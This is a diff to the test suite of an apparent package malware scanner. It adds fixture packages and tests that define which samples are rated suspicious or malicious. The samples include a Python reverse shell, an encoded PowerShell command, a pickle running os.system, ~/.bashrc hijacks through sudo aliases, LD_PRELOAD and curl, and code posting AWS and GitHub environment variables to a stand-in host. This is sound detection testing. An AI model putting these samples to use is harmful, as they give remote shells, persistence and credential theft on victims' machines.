@@ -549,6 +549,70 @@ _TWINS: dict[str, tuple[str, Mapping[str, str]]] = {
             """
         },
     ),
+    "a count of users, by what a hash makes of the machine's number": (
+        WHEEL,
+        {
+            INIT: """
+            import hashlib, os, urllib.request, uuid
+
+            if not os.getenv("EXAMPLE_QUIET"):
+                seen = hashlib.sha256(str(uuid.getnode()).encode()).hexdigest()[:16]
+                urllib.request.urlopen("https://stats.example.invalid/seen?id=" + seen, timeout=1)
+            """
+        },
+    ),
+    "traces go to a collector on this machine, unless a variable names another one": (
+        WHEEL,
+        {
+            INIT: """
+            import json, os, socket, urllib.request
+
+            PLACE = os.environ.get("EXAMPLE_ENDPOINT", "http://localhost:4318")
+            SOURCE = json.dumps({"host.name": socket.gethostname()}).encode()
+            urllib.request.urlopen(PLACE + "/v1/traces", SOURCE)
+            """
+        },
+    ),
+    "the tests and examples of a scanner are full of what it looks for": (
+        SDIST,
+        {
+            "setup.py": "from setuptools import setup\nsetup(name='example-pkg', packages=['example_pkg'])\n",
+            INIT: "def scan(text):\n    return 'bash -i' in text\n",
+            "tests/test_scan.py": """
+            import base64, zlib
+
+            def test_hidden():
+                exec(zlib.decompress(base64.b64decode("eJwrKMrMK9FQz0jNyclXKM8vyklR1wQAS1UG5Q==")))
+            """,
+            "tests/data/first.ps1": "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\n",
+            "tests/data/second.pkl": "cos\nsystem\n(S'id'\ntR.",
+            "examples/back.py": """
+            import os, socket, subprocess
+
+            s = socket.socket()
+            s.connect(("192.0.2.1", 4444))
+            [os.dup2(s.fileno(), i) for i in range(3)]
+            subprocess.call(["/bin/sh", "-i"])
+            """,
+        },
+    ),
+    "an agent tells its server the settings that carry its own name": (
+        WHEEL,
+        {
+            INIT: """
+            import http.client, json, os, threading
+
+            def settings():
+                return {key: value for key, value in os.environ.items() if key.startswith("EXAMPLE_")}
+
+            def connect():
+                link = http.client.HTTPSConnection("collector.example.invalid")
+                link.request("POST", "/connect", json.dumps({"settings": settings()}))
+
+            threading.Thread(target=connect, daemon=True).start()
+            """
+        },
+    ),
     "a build asks a program for its version, and fetches the list that belongs to it": (
         SDIST,
         {
@@ -631,6 +695,36 @@ def test_a_library_that_is_fetched_and_built_is_held_and_not_blocked(check: str,
     """Whoever builds what they fetch takes a risk that a person should see; only what is run unchecked is proven."""
     data = pack({"setup.py": _BUILD.format(check=check, run=run)}, SDIST)
     assert screen_bytes(data, filename=SDIST).verdict is verdict
+
+
+@pytest.mark.parametrize(
+    ("line", "verdict"),
+    [
+        ('eval "$(_EXAMPLE_COMPLETE=source_bash example)"', Verdict.SUSPICIOUS),
+        ('export PATH="$HOME/.local/bin:$PATH"', Verdict.SUSPICIOUS),
+        ("source ~/.example/completion.bash", Verdict.SUSPICIOUS),
+        ("alias sudo='~/.example/run'", Verdict.MALICIOUS),
+        ("export LD_PRELOAD=~/.example/a.so", Verdict.MALICIOUS),
+        ('export PATH="$(curl -s https://stage.example.invalid/a)"', Verdict.MALICIOUS),
+        ('eval "$(complete; curl -s https://stage.example.invalid/a)"', Verdict.MALICIOUS),
+        ("complete -W a b & ~/.example/run", Verdict.MALICIOUS),
+    ],
+)
+def test_a_line_for_the_shell_that_only_sets_is_held_and_not_blocked(line: str, verdict: Verdict) -> None:
+    """Completion that nobody asked for is bad manners; what starts something else at every log-in is proven."""
+    source = f"import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write({line + chr(10)!r})\n"
+    assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is verdict
+
+
+@pytest.mark.parametrize("prefix", ["AWS_", "GITHUB_", "OTHER_", "E"])
+def test_settings_of_others_are_no_settings_of_ones_own(prefix: str) -> None:
+    """Variables that begin like the package are its own settings; a cloud's, or everybody's, are not."""
+    source = (
+        "import os, requests\n"
+        f"found = {{k: v for k, v in os.environ.items() if k.startswith({prefix!r})}}\n"
+        "requests.post('https://c.example.invalid/', json=found)\n"
+    )
+    assert screen_bytes(pack({INIT: source}, WHEEL), filename=WHEEL).verdict is Verdict.MALICIOUS
 
 
 @pytest.mark.parametrize(
